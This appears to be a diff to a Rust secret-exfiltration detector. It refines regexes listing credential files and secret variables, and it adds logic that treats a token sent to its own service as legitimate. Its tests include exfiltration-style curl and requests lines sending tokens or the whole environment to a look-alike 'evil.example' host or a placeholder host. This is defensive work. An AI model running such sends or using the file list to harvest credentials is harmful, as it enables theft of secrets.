@@ -17,7 +17,7 @@ re!(
 );
 re!(
     SECRET_FILE,
-    r"(?i)\.ssh/|id_rsa|id_ed25519|id_ecdsa|\.aws/credentials|\.kube/config|\.docker/config\.json|\.npmrc|\.pypirc|\.netrc|\.git-credentials|gh/hosts\.yml|login data|/cookies\b|keychain|\.gnupg|solana/id\.json|wallet\.dat|\.config/gcloud|\.azure/|(^|[\s'\x22/(])\.env\b"
+    r"(?i)\.ssh/|id_rsa|id_ed25519|id_ecdsa|\.aws/credentials|\.kube/config|\.docker/config\.json|\.npmrc|\.pypirc|\.netrc|\.git-credentials|gh/hosts\.yml|login data|(?-i:/Cookies)\b|keychain|\.gnupg|solana/id\.json|wallet\.dat|\.config/gcloud|\.azure/|(^|[\s'\x22/(])\.env\b"
 );
 re!(
     CLIPBOARD,
@@ -33,7 +33,12 @@ re!(
 );
 re!(
     AS_CREDENTIAL,
-    r#"(?i)authorization|bearer|x-api-key|api-key\s*:|auth\s*=|auth:\s|-u\s+\S+:|--user\s|headers\s*=|headers\s*:|'key'\s*:|token=\{|apikey=|\.(append|set)\(\s*['"](secret|token|key|api_?key|apikey|auth|password|client_secret|access_token)['"]"#
+    r#"(?i)authorization|bearer|x-api-key|api-key\s*:|auth\s*=|auth:\s|-u\s+\S+:|--user\s|://[^/\s:@'"]+:\$\{?[A-Za-z_]\w*\}?@|headers\s*=|headers\s*:|'key'\s*:|token=\{|apikey=|\.(append|set)\(\s*['"](secret|token|key|api_?key|apikey|auth|password|client_secret|access_token)['"]"#
+);
+re!(
+    /// The environment a child process is given: `env=env`, `env=dict(os.environ)`, `{ env: process.env }`.
+    CHILD_ENV,
+    r"([,({])\s*env\s*(?:=|:)\s*(?:dict\(\s*os\.environ\s*\)|os\.environ(\.copy\(\))?|\{\s*\.\.\.process\.env\b[^}]*\}|process\.env|[A-Za-z_][A-Za-z0-9_]*)"
 );
 re!(
     ASSIGN,
@@ -52,12 +57,81 @@ re!(
 
 re!(
     CREDENTIAL_PARAM,
-    r"(?i)[?&](key|api_?key|apikey|secret|token|access_token|client_secret|auth)="
+    r"(?i)[?&](key|api_?key|apikey|secret|token|access_token|client_secret|auth)=|api\.telegram\.org/bot\$"
 );
 
 /// Whether a line places a secret where a request carries its credential.
 fn as_credential(line: &str) -> bool {
     AS_CREDENTIAL.is_match(line) || CREDENTIAL_PARAM.is_match(line)
+}
+
+re!(
+    /// A secret variable's name: `$PUSHOVER_APP_TOKEN`, `${GH_TOKEN}`, `os.environ['X']`, `getenv("X")`,
+    /// `process.env.X`.
+    SECRET_NAME,
+    r#"\$\{?([A-Z][A-Z0-9_]*)\}?|environ(?:\.get)?\(?\[?\s*['"]([A-Z][A-Z0-9_]*)|getenv\(\s*['"]([A-Z][A-Z0-9_]*)|process\.env\.([A-Z][A-Z0-9_]*)"#
+);
+re!(
+    /// A URL's host.
+    URL_HOST,
+    r#"https?://(?:[^/\s@'"]*@)?([A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+)"#
+);
+
+/// Words of a secret's name that say nothing about whose it is.
+const GENERIC_WORDS: &[&str] = &[
+    "API",
+    "APP",
+    "KEY",
+    "TOKEN",
+    "SECRET",
+    "ACCESS",
+    "AUTH",
+    "PASSWORD",
+    "PASS",
+    "BOT",
+    "CLIENT",
+    "ID",
+    "USER",
+    "PRIVATE",
+    "PERSONAL",
+    "OAUTH",
+    "BEARER",
+    "CREDENTIALS",
+    "CREDENTIAL",
+    "SERVICE",
+    "ACCOUNT",
+    "WEBHOOK",
+    "URL",
+];
+
+/// Whether a send goes to the service a secret it carries is named for (`$PUSHOVER_APP_TOKEN` to
+/// `api.pushover.net`, `$TELEGRAM_BOT_TOKEN` to `api.telegram.org`): the token's use, not its theft. The name
+/// must be one of the two last labels of the host (`pushover.net`), so a look-alike (`pushover.net.evil.example`)
+/// is not the service.
+fn own_service(line: &str) -> bool {
+    let hosts: Vec<Vec<String>> = URL_HOST
+        .captures_iter(line)
+        .map(|c| {
+            let labels: Vec<String> = c[1].split('.').map(str::to_uppercase).collect();
+            labels[labels.len().saturating_sub(2)..].to_vec()
+        })
+        .collect();
+    let names: Vec<&str> = SECRET_NAME
+        .captures_iter(line)
+        .filter_map(|c| (1..=4).find_map(|i| c.get(i)).map(|m| m.as_str()))
+        .filter(|n| SECRET_VAR.is_match(&format!("${n}")))
+        .collect();
+    !hosts.is_empty()
+        && !names.is_empty()
+        && names.iter().all(|name| {
+            let words: Vec<&str> = name
+                .split('_')
+                .filter(|w| w.len() >= 3 && !GENERIC_WORDS.contains(w))
+                .collect();
+            hosts
+                .iter()
+                .all(|labels| words.iter().any(|w| labels.iter().any(|l| l == w)))
+        })
 }
 
 re!(
@@ -99,6 +173,8 @@ pub(super) fn secret_flows(code: &str, first_line: u32) -> Vec<(u32, &'static st
     let mut sinks_seen = BTreeSet::new();
     for (i, line) in lines.iter().enumerate() {
         let n = first_line + statements[i].0;
+        // The environment handed to a child process (`run(cmd, env=env)`) is that process's own, not sent.
+        let line = &*CHILD_ENV.replace_all(line, "$1");
         let here = source_of(line);
         let used = tainted.iter().find(|(v, _, _)| mentions(line, v));
         let from_var = used.map(|(_, l, what)| (*l, *what));
@@ -110,7 +186,9 @@ pub(super) fn secret_flows(code: &str, first_line: u32) -> Vec<(u32, &'static st
             // Only a secret sent as a request's credential (and nothing else of the secret's) is an API call.
             // A single secret (a key from a variable or a file) in a request's credential position is an API call.
             let credential = what != "the whole environment"
-                && (as_credential(line) || used.is_some_and(|(v, _, _)| in_credential_field(line, v)));
+                && (as_credential(line)
+                    || own_service(line)
+                    || used.is_some_and(|(v, _, _)| in_credential_field(line, v)));
             if !credential && sinks_seen.insert(n) {
                 out.push((source_line, what, n));
             }
@@ -159,7 +237,8 @@ fn statements(code: &str) -> Vec<(u32, String)> {
                 _ => {}
             }
         }
-        if depth <= 0 || joined >= 20 {
+        // A shell line ending in `\` goes on on the next one.
+        if depth <= 0 && !line.trim_end().ends_with('\\') || joined >= 20 {
             out.push((start, std::mem::take(&mut current)));
             depth = 0;
         }
@@ -382,6 +461,38 @@ mod tests {
         assert_eq!(secret_flows(keys, 1), vec![(1, "the whole environment", 2)]);
         let multi = "env_data = dict(os.environ)\nrequests.post(\n    \"https://x.invalid/c\",\n    json={\"t\": env_data}\n)\n";
         assert_eq!(secret_flows(multi, 1), vec![(1, "the whole environment", 2)]);
+    }
+
+    #[test]
+    fn a_token_sent_to_the_service_it_is_named_for_is_its_use() {
+        let own = "curl -s --form-string \"token=$PUSHOVER_APP_TOKEN\" \\\n  --form-string \"message=hi\" \\\n  https://api.pushover.net/1/messages.json\n";
+        assert_eq!(secret_flows(own, 1), vec![]);
+        let telegram = "curl -s \"https://api.telegram.org/bot${BOT_TOKEN}/getMe\"\n";
+        assert_eq!(secret_flows(telegram, 1), vec![]);
+        let basic = "curl -s \"https://default:$PASSWORD@$HOST:443/\" --data-binary 'SHOW USERS'\n";
+        assert_eq!(secret_flows(basic, 1), vec![]);
+        // Another service's token, or a look-alike host, is sent away.
+        let other =
+            "curl -s --form-string \"token=$GITHUB_TOKEN\" \\\n  https://api.pushover.net/1/messages.json\n";
+        assert_eq!(
+            secret_flows(other, 1),
+            vec![(1, "a secret environment variable", 1)]
+        );
+        let lookalike = "curl -d \"t=$PUSHOVER_APP_TOKEN\" https://pushover.net.evil.example/c\n";
+        assert_eq!(
+            secret_flows(lookalike, 1),
+            vec![(1, "a secret environment variable", 1)]
+        );
+    }
+
+    #[test]
+    fn the_environment_given_to_a_child_process_is_not_sent() {
+        let py = "env = dict(os.environ)\nenv['NO_PROXY'] = '1'\nproc = run(['lark', 'get'], env=env)\nproc = run(['curl', '-o', out, url])\nfail(f'curl failed {proc.returncode}')\n";
+        assert_eq!(secret_flows(py, 1), vec![]);
+        let child = "subprocess.run(['curl', url], env=dict(os.environ))\n";
+        assert_eq!(secret_flows(child, 1), vec![]);
+        let sent = "env = dict(os.environ)\nrequests.post('https://x.invalid/e', json=env)\n";
+        assert_eq!(secret_flows(sent, 1), vec![(1, "the whole environment", 2)]);
     }
 
     #[test]
